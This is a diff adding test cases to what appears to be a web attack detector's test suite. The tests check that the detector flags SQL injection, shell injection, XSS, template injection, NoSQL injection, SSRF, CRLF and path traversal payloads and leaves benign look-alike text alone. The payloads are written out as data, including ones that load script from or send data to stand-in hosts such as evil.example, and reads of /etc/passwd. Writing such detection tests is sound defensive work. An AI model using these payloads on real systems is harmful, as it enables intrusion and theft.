@@ -383,3 +383,76 @@ t.test('JavaScript callbacks after a quote and a comma are code; JSON Schema key
   t.same(json({ document: { $schema: 'https://json-schema.org/draft/2020-12/schema', $comment: 'a note', $id: 'x', $ref: '#/$defs/a', $defs: { a: { type: 'string' } } } }), [], 'a JSON Schema')
   t.same(json({ username: { $ne: null }, password: { $ne: null } }), ['nosqli'], 'operators that change what a query matches still count')
 })
+
+// ---- fourth round (2026-12-02), tuned on the spent second fresh part: each family with what it leaves alone ----
+
+const multipart = (field: string, value: string) =>
+  raw({ headers: { 'content-type': 'multipart/form-data; boundary=XyZ' }, body: Buffer.from(`--XyZ\r\nContent-Disposition: form-data; name="${field}"\r\n\r\n${value}\r\n--XyZ--\r\n`) })
+
+t.test('SQL: words that need parentheses, ordinals, quotations and addresses are no injection', async (t) => {
+  for (const p of ['"And now, my child, you may kiss her."', "D'or 1st parfume", 'contains "--" in the 3rd and 4th position', '"Winston Smith" <winston.smith@recdep.minitrue> (Records Department)', '"Denn die Todten reiten schnell"-- ("For the dead travel fast.")', '"And when I raise my hand--so--you will throw"']) t.same(q(p), [], p)
+  for (const p of ["' and now() = sysdate() --", "1'OR 1st=1st--", 'admin"--', "x' < 5 --"]) t.ok(q(p, 'id').includes('sqli'), p)
+})
+
+t.test('SQL: line comments end at the line, fuzzers\' prefixes, escaped quotes, operators cut by a comment', async (t) => {
+  for (const p of [
+    'union#foo*/*bar\nselect#foo\n1,2', "%0a' or 1337=(select 1337 from pg_sleep(120)) --", "\\n or 1337=(select 1337 from pg_sleep(120))", "0x0a\\' and 1337=(select 1337 from (select sleep(120))A) --",
+    '0\\"XOR(if(now()=sysdate(),sleep(9),0))XOR\\"Z', "x'|email--", "id'not like id--", "user'collate nocase--", "z'or email notnull--", "'sounds like rowid--", "' and email not similar to id--",
+    'SELECT CASE WHEN (1=1) THEN pg_sleep(25) ELSE pg_sleep(0) END--', 'IF 1=1 THEN dbms_lock.sleep(25);', ';sleep(10)--', 'union distinctrow select 1,2,3-- -', 'SELECT/*avoid-spaces*/password/**/FROM/**/Members',
+    '` WHERE 1337=1337 AND (SELECT 1337 FROM (SELECT(SLEEP(10)))YYYY)-- 1337', 'union+distinctROW+select+1,2,3,4-- -', '/*!union*/+/*!select*/+1,2', "TrackingId=x'+OR+1=1-- OK", 'http://a.example/index.php?id=1 and 1*0 order by 1--',
+  ]) t.ok(q(p, 'id').includes('sqli'), p)
+  for (const p of ["it's not that bad--really", "don't like it -- said Ann", 'issue #5\nselect the best one', 'Tom+and+Jerry', "the 'x' is fine -- ok", 'order by 1 please']) t.same(q(p), [], p)
+})
+
+t.test('shell: batch IF and FOR, mail protocol commands after a line break, wrappers, folded spellings', async (t) => {
+  for (const p of [
+    'IF EXIST "temp.txt" ECHO found', 'IF /I "%var%" NEQ "0" ECHO inequality', 'if not (2 equ 2) echo hey', 'IF ERRORLEVEL 0 CMD', 'FOR /L %%G IN (1,1,5) DO echo %%G', 'for /f "tokens=*" %G in (\'dir /b\') do echo %G', '& FOR %_ IN (a,b,c) DO cmd',
+    '\r\na001 EXAMINE INBOX', '\r\nMAIL FROM:<a@b.com>', '\r\nRCPT TO:<postmaster>', '\r\nQUIT', '\r\nRETR 123',
+    'time sh -c whoami', 'strace whoami | sh', 'cpulimit -l 100 -f whoami', 'time; visudo', 'cat /[e]tc/[p]asswd', 'cat /et$()c/pa$()sswd',
+  ]) t.ok(q(p).includes('rce'), JSON.stringify(p))
+  t.ok(q('IF+EXIST+%22temp.txt%22+ECHO+found'.replace(/%22/g, '"'), 'q').includes('rce') || header('x-data', 'IF+EXIST+"temp.txt"+ECHO+found').includes('rce'), 'with + for its blanks')
+  for (const p of ['if x == 1:', 'if (a == b) {', 'if a == b then return end', 'for x in range(10)', 'If you want, for example, more', '\nData protection matters to us', 'time will tell', 'nice cat pictures', 'the [a] list']) t.same(q(p), [], JSON.stringify(p))
+})
+
+t.test('XSS: sinks through call/apply or as callbacks, handlers as values, dangling markup, Markdown pages', async (t) => {
+  for (const p of ['alert.call(null,1)', 'prompt.apply(null, [1])', 'alert?.(document?.cookie)', '[1].map(confirm)', '[1].find(alert)', 'Array.prototype.sort.call`${alert}1337`', "onload=function(){$.getScript('//x.example/2.js')}", 'onfocus=;write(cookie)', '<img src="//evil.example/?', '<link rel=icon href="//evil.example?', '‘-alert(1)-’', '"+onError=prompt(123)"+', 'javascript:\ufeffalert(1)', '<video onwebkitplaybacktargetavailabilitychanged=alert(1)>']) t.ok(q(p).includes('xss'), p)
+  t.notOk(q("eval('1+1')").includes('xss'), 'code handed to eval without a sink is no script injection (it is rce)')
+  for (const p of ["eval('alert(1)');", 'setTimeout`alert\\x2823\\x29`', '(alert)()', '"*prompt(9)*"', '[xss link](<javascript:alert(1)>)', 'href=”javascript:alert(1)//”>Click</a>', '<x @click=$event.view.alert(1)>click</x>', "{{$new.constructor('alert(1)')()}}", '{{_Vue.h.constructor`alert(1)`()}}']) t.ok(q(p).includes('xss'), p)
+  for (const p of ['call me maybe', 'onload handlers run first', '<img src="/logo.png">', 'the map(fn) call', 'setTimeout(render, 10)', '<button @click="save">Save</button>', '{{ item.constructor.name }}']) t.same(q(p), [], p)
+  // a documentation page's component scripts, escaped brackets and embeds
+  t.same(multipart('readme', "---\npage: true\n---\n\n<script setup>\nimport TeamPage from './team/TeamPage.vue'\n</script>\n\n<TeamPage />"), [], 'Vue <script setup> importing a component')
+  t.same(multipart('readme', "## Raw HTML\n\nText.\n\n<script setup>\n  const rawHtml = '<span style=\"color: red\">red</span>'\n</script>\n\n<div class=\"demo\">x</div>"), [], 'a component script declaring a string of markup')
+  t.same(multipart('readme', '# \\<script setup> {#script-setup}\n\nIt is a compile-time syntactic sugar.'), [], 'an escaped bracket in a heading')
+  t.same(multipart('readme', '### html\n\nExample output:\n\n<iframe src="html-formatter-example.html" width="100%" height="460px"></iframe>'), [], 'an embedded page')
+  t.same(multipart('readme', '<script setup>\nalert(document.cookie)\n</script>'), ['xss'], 'a component script calling a sink is judged')
+  t.same(multipart('readme', '## Demo\n\n<iframe src="javascript:alert(1)"></iframe>'), ['xss'], 'an embed of a script URL is not one')
+})
+
+t.test('templates: Nunjucks tags in Markdown pages are the site\'s, EL class lookups and prototype walks are probes', async (t) => {
+  t.same(multipart('readme', "---\ntitle: Theme Switcher\n---\n\n{% include 'components/theme-switcher.html' %}"), [], 'an include in a page with front matter')
+  t.same(multipart('readme', '## Examples\n\n{% recommended %}\n{% fixable %}'), [], 'shortcodes under a heading')
+  t.ok(q("{% include 'x.html' %}").includes('ssti'), 'a tag in a short value is still a probe')
+  for (const p of ['${class.getClassLoader()}', '{{this.constructor.constructor}}', '{{ this.__proto__ }}', "{{'/etc/passwd'|file_excerpt(1,30)}}", "#{root.process.mainModule.require('child_process')}"]) t.ok(q(p).includes('ssti'), p)
+})
+
+t.test('NoSQL: busy-wait loops, returns closing a condition; SSRF: handed schemes, unbracketed IPv6, escaped hosts, long hex', async (t) => {
+  for (const p of ['1; return db.a.findOne(); var dummy=1', "') { return true; } var dum='a", 'return true; var dummy =\'!', "1; var d = new Date(); do { c = new Date(); } while(c - d < 10000); return true"]) t.ok(q(p, 'user').includes('nosqli'), p)
+  for (const p of ['http://whatever.example/ssrf.php?url=sftp://evil.example:11111/', 'http://a.example/redirect.php?url=file:///etc/passwd', 'http://0000::1:80/', 'http://\\l\\o\\c\\a\\l\\h\\o\\s\\t/', 'http://0x41414141A9FEA9FE/']) t.ok(q(p, 'url').includes('ssrf'), p)
+  t.same(q('https://example.com/docs?page=file-formats', 'url'), [], 'a query naming no scheme')
+})
+
+t.test('documents: file URLs, documentation hosts and invalid addresses in a JSON document are its own', async (t) => {
+  const tests = Array.from({ length: 14 }, (_, i) => ({ description: `case ${i}`, data: ['file:/etc/hosts', 'http://087.10.0.1/', 'http://999.999.999.999/', 'ldap://[2001:db8::7]/c=GB?objectClass?one'][i % 4], valid: i % 2 === 0 }))
+  t.same(json([{ description: 'validation of URIs', schema: { format: 'uri' }, tests }]), [], 'a URI-format test suite')
+  t.ok(q('file:///etc/passwd', 'url').includes('ssrf'), 'outside a document a file URL to a system file is still SSRF')
+  t.ok(q('http://425.510.425.510/', 'url').includes('ssrf'), 'octets that wrap to the metadata address')
+})
+
+t.test('scanner: a script\'s source guessed by its name; splitting: a request line; traversal: a Java app\'s files', async (t) => {
+  for (const path of ['/index.php.new', '/index.aspx_old2019', '/login.jsp~1', '/index.php.', '/index.php45', '/index.jspx.map', '/bower.json', '/app/etc/local.xml', '/sftp-config.json', '/App.csproj']) t.same(raw({ path }), ['scanner'], path)
+  for (const path of ['/index.php', '/index.php5', '/index.aspx', '/page.jsp', '/index.php/users', '/default.asmx']) t.same(raw({ path }), [], path)
+  for (const p of ['%0aPOST / HTTP/1.1', 'aaa%0aGET+/+HTTP/1.1']) t.ok(q(decodeURIComponent(p.replace(/\+/g, ' ')), 'lang').includes('crlf'), p)
+  for (const p of ['../WEB-INF/web.xml', '../logs/access.log', '..2fapache2flogs2ferror.log']) t.ok(q(p, 'file').includes('path_traversal'), p)
+  for (const p of ['/wamp/logs/apache_error.log', '/MySQL/my.cnf', '/.bash_profile']) t.ok(q(p, 'template').includes('path_traversal'), p)
+  t.same(q('see ../docs/index.md for more', 'q'), [], 'a relative link in text')
+})
